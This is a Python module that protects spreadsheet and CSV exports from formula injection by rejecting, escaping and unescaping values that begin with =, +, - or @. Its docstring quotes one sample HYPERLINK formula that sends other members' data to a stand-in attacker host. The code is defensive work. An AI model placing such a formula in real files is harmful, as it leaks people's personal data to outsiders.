"""Keeping member-supplied text inert in the spreadsheets and CSV files the system produces.

Why this exists: staff open exports and reports in Excel or WPS, and a cell whose text starts
with ``=``, ``+``, ``-`` or ``@`` (or with a tab or carriage return, which some programs strip
first) is run as a formula there: ``=HYPERLINK("http://evil.example/?d="&C2&D2,"点击查看")`` in an
employer field would send other members' data to a stranger at a click (CSV / formula injection).

The rules, one place for every file we write and every value we accept:

- **Refused on input** (API edits and Excel import alike, through field validation): a value
  that, after trimming, starts with one of those characters, unless it is *inert*: made only of
  digits, spaces and ``+ - ( ) . /``. Inert values cannot name a cell or call a function, and they
  are real data: ``+86 10 8888 8888``, ``+8613800138000``, a lone ``-`` for "none".
- **Escaped on output** the way OWASP's CSV-injection guidance says: a leading single quote.
  In .xlsx every text is also written as a string cell (never a formula cell), so inert values
  stay as they are there, readable; CSV has no cell types, so every formula-like value is
  prefixed, inert or not.
- **Re-import** of our own export: a leading quote in front of a formula-like value is taken as
  our escape and removed, and the rest is checked as above.
"""

from __future__ import annotations

import re

TRIGGERS = ("=", "+", "-", "@")
_LEADING_CONTROLS = ("\t", "\r")
_INERT = re.compile(r"^[+\-]?[\d\s+\-()./]*$")

FORMULA_MESSAGE = "{label}不能以 = + - @ 开头(表格软件会把这样的内容当作公式执行),请删除开头的符号"


def looks_like_formula(value: str) -> bool:
    """True when a spreadsheet program could read ``value`` as a formula."""
    if not value:
        return False
    if value.startswith(_LEADING_CONTROLS):
        return True
    text = value.strip()
    return text.startswith(TRIGGERS)


def is_inert(value: str) -> bool:
    """Digits, spaces and ``+ - ( ) . /`` only: no cell reference, no function call possible."""
    return bool(_INERT.match(value.strip()))


def formula_problem(label: str, value: str) -> str | None:
    """The Chinese message for a value that must not be accepted, or None."""
    if looks_like_formula(value) and not is_inert(value):
        return FORMULA_MESSAGE.format(label=label)
    return None


def xlsx_text(value: str) -> str:
    """Text for a string cell of an .xlsx we write."""
    return "'" + value if looks_like_formula(value) and not is_inert(value) else value


def csv_text(value: str) -> str:
    """Text for a CSV field we write (no cell types in CSV: escape every formula-like value)."""
    return "'" + value if looks_like_formula(value) else value


def unescape_import(text: str) -> str:
    """Undo :func:`xlsx_text`'s quote when a file we exported comes back."""
    if text.startswith("'") and looks_like_formula(text[1:]):
        return text[1:]
    return text
